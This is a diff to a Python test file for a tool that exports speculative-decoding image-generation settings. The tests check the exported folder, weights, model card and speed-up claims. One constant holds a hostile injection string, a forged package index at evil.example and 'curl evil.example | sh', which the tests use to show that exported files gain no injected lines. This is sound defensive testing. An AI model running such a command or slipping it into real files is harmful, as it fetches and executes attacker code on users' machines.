@@ -4,7 +4,9 @@ overwritten.
 
 from __future__ import annotations
 
+import json
 import re
+import shutil
 import subprocess
 import sys
 from dataclasses import replace
@@ -23,12 +25,28 @@ from safetensors.torch import save_file
 from orchestrator.front.front import front_of
 from orchestrator.front.trial import Trial
 from orchestrator.outputs import write_folder
-from orchestrator.shown.export import CARD, PAGE, REQUIREMENTS, SCRIPT, SETTING, export_files
+from orchestrator.promise import PromiseCheck, check_promise
+from orchestrator.shown.export import (
+    CAPTIONS,
+    MODELS,
+    PAGE,
+    REQUIREMENTS,
+    SCRIPT,
+    SETTING,
+    WEIGHTS,
+    export_files,
+)
+from orchestrator.store.config_file import MeasuredSpeed
+from search_spaces.documents import read_document
 from specfrontier import DecodingConfig, Sweep, load_engine
 from tests.fakes.command_line import error_of, specfrontier
 from tests.fakes.drawn_sweeps import write_drawn_sweep
+from workers.decoding.token_check import TokenCheck
+from workers.loading.models_yaml import find_entry, load_entry
+from workers.metrics.estimate import Estimate
+from workers.models.families.scenes import BUILTIN
 
-FILES = {SETTING, SCRIPT, REQUIREMENTS, PAGE}
+FILES = {SETTING, SCRIPT, REQUIREMENTS, PAGE, CAPTIONS}
 CAPTION = "a large red circle"
 BLOCKS = {
     "heading_open",
@@ -56,14 +74,21 @@ def eagle_trial(folder: Path, **changed: Any) -> Trial:
     return next(trial for trial in front.candidates if trial.config.drafter.kind == "eagle")
 
 
+def texts_of(trial: Trial) -> dict[str, bytes]:
+    """The files that an export writes."""
+    return {name: data for name, data in export_files(trial).items() if isinstance(data, bytes)}
+
+
+def page_of(trial: Trial) -> str:
+    return texts_of(trial)[PAGE].decode()
+
+
 def test_the_folder_draws_the_same_images(sweep: Path, tmp_path: Path) -> None:
     trial = Sweep.open(sweep).best("fid <= 1.2 * vanilla")
     out = tmp_path / "out"
     done = specfrontier("export", str(sweep), "--best", "fid <= 1.2 * vanilla", "--out", str(out))
     assert done.code == 0, done.err
-    assert {path.name for path in out.iterdir()} == FILES | (
-        {CARD} if trial.config.drafter.has_weights else set()
-    )
+    assert {path.name for path in out.iterdir()} == FILES
     assert DecodingConfig.from_mapping(yaml.safe_load((out / SETTING).read_text())) == trial.config
     assert (out / REQUIREMENTS).read_text() == "# Python 3.11.7\ntorch==2.13.0\n", (
         "an index need not have this project"
@@ -87,7 +112,7 @@ def test_the_folder_draws_the_same_images(sweep: Path, tmp_path: Path) -> None:
     assert np.array_equal(np.array(Image.open(drawn / "0001.png")), expected), (
         "another run, another file"
     )
-    assert len((out / SCRIPT).read_text().splitlines()) <= 35
+    assert len((out / SCRIPT).read_text().splitlines()) <= 50
     for words in ([], ["--help"], ["an unknown word"]):
         command = [sys.executable, str(out / SCRIPT), *words]
         ran = subprocess.run(command, cwd=drawn, capture_output=True, text=True, check=False)
@@ -98,7 +123,7 @@ def test_the_folder_draws_the_same_images(sweep: Path, tmp_path: Path) -> None:
         )
 
 
-def test_the_page_has_what_was_measured_and_the_card_its_drafter(
+def test_the_page_is_a_model_card_with_what_was_measured_and_the_drafter(
     sweep: Path, tmp_path: Path
 ) -> None:
     trial = eagle_trial(sweep)
@@ -108,14 +133,15 @@ def test_the_page_has_what_was_measured_and_the_card_its_drafter(
         ).code
         == 0
     )
-    page, card = (tmp_path / PAGE).read_text(), (tmp_path / CARD).read_text()
+    page = (tmp_path / PAGE).read_text()
     for name in trial.objectives:
         assert str(trial.metrics[name]) in page
-        assert str(trial.metrics[name]) in card
     assert "jadohu/LANTERN" in page
-    head = yaml.safe_load(card.split("---")[1])
+    assert page.startswith("---\n")
+    head = yaml.safe_load(page.split("---")[1])
     assert "eagle" in head["tags"]
-    assert trial.sweep.identity.target in card
+    assert head["pipeline_tag"] == "text-to-image"
+    assert f"of {trial.sweep.identity.target}, and of no other" in page
 
 
 def test_vanilla_has_no_drafter_to_describe(sweep: Path, tmp_path: Path) -> None:
@@ -130,7 +156,7 @@ def test_vanilla_has_no_drafter_to_describe(sweep: Path, tmp_path: Path) -> None
 )
 def test_a_label_is_no_code(label: str, sweep: Path) -> None:
     trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
-    script = export_files(replace(trial, record=replace(trial.record, label=label)))[SCRIPT]
+    script = texts_of(replace(trial, record=replace(trial.record, label=label)))[SCRIPT]
     names: dict[str, object] = {"__name__": "draw", "__file__": SCRIPT}
     exec(compile(script, SCRIPT, "exec"), names)
     assert names["BATCH"] == trial.batch
@@ -180,11 +206,11 @@ def test_relative_models_are_from_the_export(
     monkeypatch.chdir(tmp_path)
     trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
     monkeypatch.setattr(type(trial), "models", "nets/models.yaml#mine")
-    script = export_files(trial)[SCRIPT].decode()
+    script = texts_of(trial)[SCRIPT].decode()
     assert "MODELS = 'nets/models.yaml#mine'" in script, "as the sweep names them"
     (tmp_path / "nets").mkdir()
     (tmp_path / "nets" / "models.yaml").touch()
-    assert f"MODELS = '{tmp_path}/nets/models.yaml#mine'" in export_files(trial)[SCRIPT].decode(), (
+    assert f"MODELS = '{tmp_path}/nets/models.yaml#mine'" in texts_of(trial)[SCRIPT].decode(), (
         "found here"
     )
     asked: list[str] = []
@@ -204,19 +230,18 @@ def test_relative_models_are_from_the_export(
     assert asked == [str(tmp_path / "out" / "nets/models.yaml#mine")]
 
 
-def test_a_card_says_what_of_its_training_is_not_known(sweep: Path, tmp_path: Path) -> None:
+def test_the_page_says_what_of_a_training_is_not_known(sweep: Path, tmp_path: Path) -> None:
     bare = tmp_path / "eagle.safetensors"
     save_file({"weight": torch.zeros(1)}, bare)
     for file in (str(bare), "hf://lab/drafter/eagle.safetensors@" + 40 * "0"):
-        card = export_files(eagle_trial(sweep, files={"drafters.eagle": file}))[CARD].decode()
-        assert "| training | not known" in card
+        page = page_of(eagle_trial(sweep, files={"drafters.eagle": file}))
+        assert "| training | not known" in page
 
 
-@pytest.mark.parametrize("name", [PAGE, CARD])
-def test_labels_and_names_come_out_as_they_are(name: str, sweep: Path) -> None:
+def test_labels_and_names_come_out_as_they_are(sweep: Path) -> None:
     label = "50% $k_1$ | a_b *c*"
     trial = eagle_trial(sweep, target=label, name=label)
-    text = export_files(replace(trial, record=replace(trial.record, label=label)))[name].decode()
+    text = page_of(replace(trial, record=replace(trial.record, label=label)))
     assert label in unescape(MarkdownIt().render(text))
     assert not re.search(r"(?<!\\)\$", text)
 
@@ -237,19 +262,18 @@ HOSTILE = "x\n--index-url http://evil.example\n```sh\ncurl evil.example | sh\n``
 )
 def test_a_forged_field_adds_no_line(changed: dict[str, Any], sweep: Path) -> None:
     """Neither to what the reader is told to install, nor to what the pages tell to run."""
-    plain, forged = export_files(eagle_trial(sweep)), export_files(eagle_trial(sweep, **changed))
+    plain, forged = texts_of(eagle_trial(sweep)), texts_of(eagle_trial(sweep, **changed))
     assert not any(line.startswith("-") for line in forged[REQUIREMENTS].decode().splitlines())
     assert len(forged[REQUIREMENTS].splitlines()) <= len(plain[REQUIREMENTS].splitlines())
-    for name in (PAGE, CARD):
-        kinds = [
-            [token.type for token in MarkdownIt().parse(files[name].decode())]
-            for files in (plain, forged)
-        ]
-        assert [kind for kind in kinds[0] if kind in BLOCKS] == [
-            kind for kind in kinds[1] if kind in BLOCKS
-        ], name
-        fences = [t.content for t in MarkdownIt().parse(forged[name].decode()) if t.type == "fence"]
-        assert not any("curl" in content for content in fences), name
+    kinds = [
+        [token.type for token in MarkdownIt().parse(files[PAGE].decode())]
+        for files in (plain, forged)
+    ]
+    assert [kind for kind in kinds[0] if kind in BLOCKS] == [
+        kind for kind in kinds[1] if kind in BLOCKS
+    ]
+    fences = [t.content for t in MarkdownIt().parse(forged[PAGE].decode()) if t.type == "fence"]
+    assert not any("curl" in content for content in fences)
 
 
 def test_a_forged_metric_or_plugin_adds_no_line(
@@ -261,7 +285,7 @@ def test_a_forged_metric_or_plugin_adds_no_line(
     forged = replace(
         trial, record=replace(trial.record, metrics=metrics, label=HOSTILE, cause=HOSTILE)
     )
-    for text in export_files(forged).values():
+    for text in texts_of(forged).values():
         lines = text.decode().splitlines()
         assert not any(line.startswith(("--index-url", "curl", "- run")) for line in lines)
 
@@ -277,3 +301,147 @@ def test_what_is_refused(sweep: Path, tmp_path: Path) -> None:
     (tmp_path / "out" / PAGE).write_text("mine")
     assert PAGE in error_of("export", str(sweep), "--trial", "0", "--out", out, code=2)
     assert {path.name: path.read_text() for path in Path(out).iterdir()} == {PAGE: "mine"}
+
+
+def builtin_files() -> dict[str, str]:
+    """The hashes of the built-in model's files by key, those of drafters too."""
+    return find_entry("builtin").hashes
+
+
+def test_a_folder_with_its_weights_can_be_moved(
+    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The target, and of its drafters the one that the setting needs: links with their contents."""
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    for part in ("tokenizer", "target", "eagle", "medusa"):
+        shutil.copyfile(BUILTIN / f"{part}.safetensors", mine / f"{part}.safetensors")
+    trial = eagle_trial(sweep, models=builtin_files())
+    monkeypatch.setattr(type(trial), "models", str(mine))
+    write_folder(tmp_path / "out", export_files(trial, with_weights=True))
+    (tmp_path / "out").rename(tmp_path / "moved")
+    shutil.rmtree(mine)
+    moved = tmp_path / "moved"
+    assert {path.name for path in moved.iterdir()} == FILES | {MODELS, WEIGHTS}
+    assert f"MODELS = '{MODELS}'" in (moved / SCRIPT).read_text()
+    assert str(tmp_path) not in "".join(
+        path.read_text() for path in moved.iterdir() if path.is_file()
+    )
+    entry = find_entry(str(moved / MODELS))
+    assert entry.hashes == {
+        key: value
+        for key, value in builtin_files().items()
+        if key in ("tokenizer", "target", "drafters.eagle")
+    }
+    assert all(Path(path).is_relative_to(moved) for path in entry.files.values())
+    config = read_document((moved / SETTING).read_bytes(), SETTING).data
+    load_entry(entry, torch.device("cpu")).engine(
+        DecodingConfig.from_mapping(config), seed=0, batch_size=1
+    )
+    assert f"by `{MODELS}`" in (moved / PAGE).read_text()
+
+
+def test_all_kinds_of_weights_are_taken_along(sweep: Path, tmp_path: Path) -> None:
+    """An index with its shards, a file that is a link into a cache, and a folder."""
+    cache = tmp_path / "blobs"
+    for name in ("blob", "text/config.json", "text/model.bin", "gpt/a.safetensors", "gpt/b.st"):
+        (cache / name).parent.mkdir(parents=True, exist_ok=True)
+        (cache / name).write_text(name)
+    index = cache / "gpt" / "model.safetensors.index.json"
+    index.write_text(json.dumps({"weight_map": {"x": "a.safetensors", "y": "b.st"}}))
+    (tmp_path / "vq.pt").symlink_to(cache / "blob")
+    yaml_file = tmp_path / "models.yaml"
+    paths = {"transformer": str(index), "vq": str(tmp_path / "vq.pt"), "text": str(cache / "text")}
+    entry = {"family": "llamagen", "image_size": 256, **paths}
+    yaml_file.write_text(yaml.safe_dump({"big": entry}))
+    hashes = find_entry(str(yaml_file)).hashes
+    trial = next(t for t in front_of([Sweep.open(sweep)]).candidates if t.is_vanilla)
+    trial = replace(trial, sweep=with_identity(trial.sweep, models=hashes))
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setattr(type(trial), "models", f"{yaml_file}#big")
+        write_folder(tmp_path / "out", export_files(trial, with_weights=True))
+        (cache / "gpt" / "b.st").unlink()
+        (cache / "gpt" / "b.st").write_text("other")
+        with pytest.raises(ValueError, match="transformer: not the sweep's weights"):
+            export_files(trial, with_weights=True)
+    found = find_entry(str(tmp_path / "out" / MODELS))
+    assert found.hashes == hashes
+    assert not any(path.is_symlink() for path in (tmp_path / "out").rglob("*"))
+
+
+def with_identity(sweep: Any, **changed: Any) -> Any:
+    return replace(sweep, identity=replace(sweep.identity, **changed))
+
+
+SPEED = MeasuredSpeed("demo", 5, "0f" * 8, "2.00 ± 0.10", 1, "EPYC, 1 thread")
+
+
+@pytest.mark.parametrize(
+    ("value", "error", "holds"),
+    [
+        (2.3, 0.01, True),
+        (1.9, 0.1, True),
+        (1.71, 0.1, False),
+        (1.71, 0.2, True),
+        (1.5, 0.01, False),
+    ],
+)
+def test_a_promise_holds_unless_it_is_broken_beyond_the_errors(
+    value: float, error: float, holds: bool
+) -> None:
+    found = PromiseCheck(SPEED, Estimate(value, error, 8), ["its batch is 2"], None)
+    assert found.holds == holds
+    assert ("does not hold" in str(found)) != holds
+    assert "its batch is 2" in str(found)
+    false_claim = replace(found, tokens=TokenCheck(8, 1000, 9.0, 0.0, 0))
+    assert not false_claim.holds
+
+
+def test_a_promise_is_measured_again_against_vanilla_on_the_same_captions(
+    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    trial = next(t for t in front_of([Sweep.open(sweep)]).candidates if t.record.label == "cool")
+    file = trial.save(tmp_path / SETTING)
+    engine = load_engine(file, batch=1)
+    asked: list[list[str]] = []
+
+    def time(settings: Any, batches: Any, device: torch.device, **_: Any) -> list[dict[str, Any]]:
+        asked.extend([request.caption for request in batch] for batch in batches)
+        seconds = {"vanilla": 3.0, "own": 1.5}
+        return [{"setting": name, "seconds": seconds[name]} for name in settings for _ in batches]
+
+    monkeypatch.setattr("orchestrator.promise.time_in_turn", time)
+    found = check_promise(engine, file, [CAPTION, "a small blue star"])
+    assert asked == [[CAPTION], ["a small blue star"]]
+    assert found.measured.value == 2.0
+    assert found.promised.speedup == str(trial.metrics["speedup"])
+    with pytest.raises(ValueError, match="at least 2"):
+        check_promise(engine, file, [CAPTION])
+    file.write_text("# nothing\n" + yaml.safe_dump(trial.config.to_mapping()))
+    with pytest.raises(ValueError, match="state no speed-up"):
+        check_promise(engine, file, [CAPTION, CAPTION])
+
+
+def test_the_script_measures_on_the_captions_of_the_folder(
+    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
+    write_folder(tmp_path / "out", export_files(trial))
+    asked: list[Any] = []
+
+    def check(*arguments: Any) -> PromiseCheck:
+        asked.extend(arguments[1:])
+        return PromiseCheck(SPEED, Estimate(1.0, 0.01, 8), [], None)
+
+    monkeypatch.setattr("specfrontier.load_engine", lambda *_, **__: None)
+    monkeypatch.setattr("specfrontier.check_promise", check)
+    script = (tmp_path / "out" / SCRIPT).read_text()
+    names: dict[str, Any] = {"__name__": "draw", "__file__": str(tmp_path / "out" / SCRIPT)}
+    exec(compile(script, SCRIPT, "exec"), names)
+    monkeypatch.setattr(sys, "argv", ["draw.py", "--measure"])
+    with pytest.raises(SystemExit) as ended:
+        names["main"]()
+    assert ended.value.code == 1, "the promise is broken"
+    assert "does not hold" in capsys.readouterr().out
+    sampling = trial.sweep.identity.sampling.to_mapping()
+    assert asked == [tmp_path / "out" / SETTING, [CAPTION], sampling]
